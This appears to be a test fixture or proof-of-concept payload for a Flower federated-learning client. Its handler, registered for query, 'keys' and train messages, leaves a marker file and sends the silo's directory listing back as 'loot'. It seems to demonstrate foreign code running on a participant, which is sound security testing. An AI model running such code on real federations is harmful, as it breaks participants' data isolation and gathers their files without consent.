"""What the attacker wants a silo to run: it could read any file of the silo's; it leaves a mark and tells of it."""

from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


def steal(message: Message, context: Context) -> Message:
    """Leave a mark, and send what lies around."""
    (Path(str(context.run_config["out"])) / f"ran-on-{context.node_id}").write_text("foreign code ran here")
    loot = ",".join(sorted(p.name for p in Path.cwd().iterdir()))
    return Message(RecordDict({"loot": ConfigRecord({"files": loot or "-"})}), reply_to=message)


app.query()(steal)
app.query("keys")(steal)
app.train()(steal)
